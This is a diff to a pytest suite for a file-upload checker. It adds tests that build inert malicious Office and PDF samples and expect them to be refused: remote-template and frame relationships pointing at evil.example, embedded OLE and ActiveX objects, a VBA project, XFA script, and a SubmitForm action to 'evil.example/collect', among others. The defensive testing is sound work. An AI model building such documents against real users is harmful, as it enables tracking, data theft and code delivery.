@@ -15,7 +15,15 @@ import pytest
 from PIL import Image
 from pypdf import PdfReader, PdfWriter
 from pypdf.actions import JavaScript
-from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
+from pypdf.generic import (
+    ArrayObject,
+    DecodedStreamObject,
+    DictionaryObject,
+    FloatObject,
+    NameObject,
+    NumberObject,
+    TextStringObject,
+)
 
 from shared.uploads.checks import CheckedUpload, check_upload
 from shared.uploads.cli import register_uploads_cli
@@ -296,6 +304,147 @@ def test_member_paths_escaping_the_package_are_refused(member):
     assert "unsafe names" in refused.message
 
 
+_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def _rels(*relationships: tuple[str, str, bool]) -> bytes:
+    """A .rels part holding (type, target, external) relationships."""
+    elements = "".join(
+        f'<Relationship Id="rId{n}" Type="{_REL}{kind}" Target="{target}"'
+        + (' TargetMode="External"' if external else "")
+        + "/>"
+        for n, (kind, target, external) in enumerate(relationships, start=10)
+    )
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f"{elements}</Relationships>"
+    ).encode()
+
+
+@pytest.mark.parametrize(
+    ("kind", "extra"),
+    [
+        pytest.param("docx", {"word/embeddings/oleObject1.bin": OLE_SIGNATURE + bytes(600)}, id="docx-ole-object"),
+        pytest.param("xlsx", {"xl/embeddings/Microsoft_Word_Document.docx": b"PK\x03\x04"}, id="xlsx-packed-file"),
+        pytest.param("docx", {"word/activeX/activeX1.bin": OLE_SIGNATURE + bytes(600)}, id="docx-activex"),
+        pytest.param("docx", {"word/oleObject7.bin": OLE_SIGNATURE + bytes(600)}, id="ole-object-elsewhere"),
+        pytest.param(
+            "docx",
+            {"word/_rels/document.xml.rels": _rels(("package", "media/report.bin", False))},
+            id="package-relationship",
+        ),
+        pytest.param(
+            "docx",
+            {"word/_rels/document.xml.rels": _rels(("oleObject", "media/object.bin", False))},
+            id="ole-object-relationship",
+        ),
+    ],
+)
+def test_office_documents_with_embedded_objects_are_refused(kind, extra):
+    refused = refusal(ooxml_bytes(kind, extra=extra), f"Report.{kind}")
+    assert refused.reason == Reason.OFFICE_EMBEDDED_OBJECT
+    assert refused.message == MESSAGES[Reason.OFFICE_EMBEDDED_OBJECT]
+    assert "embedded objects" in refused.message and "save the document as a PDF" in refused.message
+
+
+@pytest.mark.parametrize(
+    ("kind", "extra"),
+    [
+        pytest.param(
+            "docx",
+            {"word/_rels/settings.xml.rels": _rels(("attachedTemplate", "https://evil.example/t.dotm", True))},
+            id="remote-template",
+        ),
+        pytest.param(
+            "docx",
+            {"word/_rels/settings.xml.rels": _rels(("attachedTemplate", "file://fileserver/share/t.dotm", True))},
+            id="network-template",
+        ),
+        pytest.param(
+            "docx",
+            {"word/_rels/settings.xml.rels": _rels(("attachedTemplate", "\\\\fileserver\\share\\t.dotm", True))},
+            id="unc-template",
+        ),
+        pytest.param(
+            "docx",
+            {"word/_rels/webSettings.xml.rels": _rels(("frame", "https://evil.example/frame.docx", True))},
+            id="frame",
+        ),
+        pytest.param(
+            "docx",
+            {"word/_rels/document.xml.rels": _rels(("subDocument", "file:///\\\\evil\\share\\x.docx", True))},
+            id="sub-document",
+        ),
+        pytest.param(
+            "docx",
+            {"word/_rels/document.xml.rels": _rels(("oleObject", "https://evil.example/o.xlsx", True))},
+            id="external-ole-object",
+        ),
+        pytest.param(
+            "docx",
+            {"word/_rels/document.xml.rels": _rels(("image", "https://evil.example/pixel.png", True))},
+            id="remote-image",
+        ),
+        pytest.param(
+            "xlsx",
+            {"xl/_rels/workbook.xml.rels": _rels(("externalLink", "other/links.xml", False))},
+            id="external-link-relationship",
+        ),
+        pytest.param(
+            "xlsx",
+            {
+                "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
+                "xl/externalLinks/_rels/externalLink1.xml.rels": _rels(
+                    ("externalLinkPath", "https://evil.example/Budget.xlsx", True)
+                ),
+            },
+            id="linked-workbook",
+        ),
+        pytest.param("xlsx", {"xl/connections.xml": b"<connections/>"}, id="data-connection"),
+    ],
+)
+def test_office_documents_that_fetch_external_content_are_refused(kind, extra):
+    refused = refusal(ooxml_bytes(kind, extra=extra), f"Report.{kind}")
+    assert refused.reason == Reason.OFFICE_EXTERNAL_CONTENT
+    assert refused.message == MESSAGES[Reason.OFFICE_EXTERNAL_CONTENT]
+    assert "loads content from another file or website" in refused.message
+
+
+def test_a_vba_project_relationship_is_refused_as_macros():
+    data = ooxml_bytes(
+        "docx",
+        extra={
+            "word/_rels/document.xml.rels": (
+                b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                b'<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
+                b'Target="code.dat"/></Relationships>'
+            )
+        },
+    )
+    assert refusal(data, "Letter.docx").reason == Reason.MACROS
+
+
+def test_a_relationship_part_with_a_document_type_declaration_is_refused():
+    rels = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaa">]><Relationships>&a;</Relationships>'
+    data = ooxml_bytes("docx", extra={"word/_rels/document.xml.rels": rels})
+    assert refusal(data, "Letter.docx").reason == Reason.UNREADABLE
+
+
+@pytest.mark.parametrize("target", ["file:///C:\\Users\\head\\Templates\\Letter.dotx", "C:/Templates/Normal.dotm"])
+def test_a_docx_made_from_a_template_on_a_local_drive_is_accepted(target):
+    rels = _rels(("attachedTemplate", target, True))
+    with check(ooxml_bytes("docx", extra={"word/_rels/settings.xml.rels": rels}), "Letter.docx") as upload:
+        assert upload.mime_type == DOCX_TYPE
+
+
+def test_a_docx_with_an_ordinary_external_hyperlink_is_accepted():
+    rels = _rels(("hyperlink", "https://www.example.org/policy", True), ("styles", "styles.xml", False))
+    data = ooxml_bytes("docx", extra={"word/_rels/document.xml.rels": rels, "word/styles.xml": b"<w:styles/>"})
+    with check(data, "Letter.docx") as upload:
+        assert upload.mime_type == DOCX_TYPE
+
+
 # --- stage 4: PDFs ------------------------------------------------------------------------------------------------
 
 
@@ -324,6 +473,150 @@ def test_pdfs_with_active_content_are_refused(build):
     refused = refusal(pdf_bytes(build), "Invoice.pdf")
     assert refused.reason == Reason.PDF_ACTIVE_CONTENT
     assert "Print it to a new PDF" in refused.message
+
+
+def _add_annotation(writer: PdfWriter, annotation: DictionaryObject, *, field: bool = False) -> None:
+    annotation.update(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Rect"): ArrayObject([FloatObject(n) for n in (10, 10, 200, 40)]),
+            NameObject("/P"): writer.pages[0].indirect_reference,
+        }
+    )
+    reference = writer._add_object(annotation)
+    page = writer.pages[0]
+    page[NameObject("/Annots")] = ArrayObject([*page.get("/Annots", ArrayObject()), reference])
+    if field:
+        writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
+            {NameObject("/Fields"): ArrayObject([reference]), NameObject("/DA"): TextStringObject("/Helv 0 Tf 0 g")}
+        )
+
+
+def _widget(action: DictionaryObject | None = None) -> DictionaryObject:
+    widget = DictionaryObject(
+        {
+            NameObject("/Subtype"): NameObject("/Widget"),
+            NameObject("/FT"): NameObject("/Btn" if action else "/Tx"),
+            NameObject("/T"): TextStringObject("Send" if action else "Name"),
+            NameObject("/F"): NumberObject(4),
+        }
+    )
+    if action is not None:
+        widget[NameObject("/A")] = action
+    return widget
+
+
+def _action(kind: str, **entries) -> DictionaryObject:
+    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
+    for key, value in entries.items():
+        action[NameObject(f"/{key}")] = value
+    return action
+
+
+def _xfa_form(writer: PdfWriter) -> None:
+    xfa = DecodedStreamObject()
+    xfa.set_data(
+        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="form1">'
+        b'<event activity="initialize"><script contentType="application/x-javascript">app.alert(1)</script></event>'
+        b"</subform></template></xdp:xdp>"
+    )
+    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
+        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(xfa)}
+    )
+
+
+def _button(action: DictionaryObject):
+    return lambda writer: _add_annotation(writer, _widget(action), field=True)
+
+
+def _link(action: DictionaryObject):
+    return lambda writer: _add_annotation(
+        writer, DictionaryObject({NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): action})
+    )
+
+
+def _file_attachment_annotation(writer: PdfWriter) -> None:
+    payload = DecodedStreamObject()
+    payload.set_data(b"MZ" + bytes(100))
+    filespec = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Filespec"),
+            NameObject("/F"): TextStringObject("payload.exe"),
+            NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(payload)}),
+        }
+    )
+    _add_annotation(
+        writer,
+        DictionaryObject({NameObject("/Subtype"): NameObject("/FileAttachment"), NameObject("/FS"): filespec}),
+    )
+
+
+def _rich_media(writer: PdfWriter) -> None:
+    _add_annotation(
+        writer,
+        DictionaryObject(
+            {
+                NameObject("/Subtype"): NameObject("/RichMedia"),
+                NameObject("/RichMediaContent"): DictionaryObject({NameObject("/Assets"): DictionaryObject()}),
+            }
+        ),
+    )
+
+
+_URL = TextStringObject("https://evil.example/collect")
+
+
+@pytest.mark.parametrize(
+    ("build", "reason", "wording"),
+    [
+        pytest.param(_xfa_form, Reason.PDF_XFA_FORM, "form with scripts (XFA)", id="xfa-form-with-script"),
+        pytest.param(
+            _button(_action("/SubmitForm", F=_URL)), Reason.PDF_EXTERNAL_ACTION, "send form data", id="submit-form"
+        ),
+        pytest.param(
+            _button(_action("/ImportData", F=TextStringObject("data.fdf"))),
+            Reason.PDF_EXTERNAL_ACTION,
+            "open other files",
+            id="import-data",
+        ),
+        pytest.param(
+            _link(_action("/GoToR", F=TextStringObject("other.pdf"), D=ArrayObject([NumberObject(0)]))),
+            Reason.PDF_EXTERNAL_ACTION,
+            "open other files",
+            id="remote-goto",
+        ),
+        pytest.param(
+            _link(_action("/GoToE", T=DictionaryObject())), Reason.PDF_EXTERNAL_ACTION, "open other", id="embedded-goto"
+        ),
+        pytest.param(
+            _link(_action("/Rendition", OP=NumberObject(0))), Reason.PDF_EMBEDDED_MEDIA, "video", id="rendition"
+        ),
+        pytest.param(_rich_media, Reason.PDF_EMBEDDED_MEDIA, "Flash", id="rich-media"),
+        pytest.param(
+            _file_attachment_annotation, Reason.PDF_ACTIVE_CONTENT, "attached files", id="file-attachment-annotation"
+        ),
+    ],
+)
+def test_pdfs_with_forms_scripts_actions_or_media_are_refused_with_their_reason(build, reason, wording):
+    refused = refusal(pdf_bytes(build), "Application form.pdf")
+    assert refused.reason == reason
+    assert refused.message == MESSAGES[reason]
+    assert wording in refused.message and "Print it to a new PDF" in refused.message
+
+
+def test_an_xfa_form_outside_the_cross_reference_table_is_refused_as_xfa():
+    refused = refusal(pdf_bytes() + b"99 0 obj\n<< /AcroForm << /X#46A 98 0 R >> >>\nendobj\n", "Form.pdf")
+    assert refused.reason == Reason.PDF_XFA_FORM
+    assert "raw syntax" in refused.detail
+
+
+def test_a_plain_fillable_form_with_an_ordinary_link_is_accepted():
+    def form(writer: PdfWriter) -> None:
+        _add_annotation(writer, _widget(), field=True)
+        writer.add_uri(0, "https://www.example.org/", [10, 50, 100, 70])
+
+    with check(pdf_bytes(form), "Application form.pdf") as upload:
+        assert upload.mime_type == "application/pdf"
 
 
 @pytest.mark.parametrize(
@@ -445,6 +738,11 @@ def test_reason_codes_are_stable_and_each_has_a_message():
         "macros",
         "pdf_encrypted",
         "pdf_active_content",
+        "pdf_xfa_form",
+        "pdf_external_action",
+        "pdf_embedded_media",
+        "office_embedded_object",
+        "office_external_content",
         "image_too_large",
         "image_unreadable",
         "unreadable",
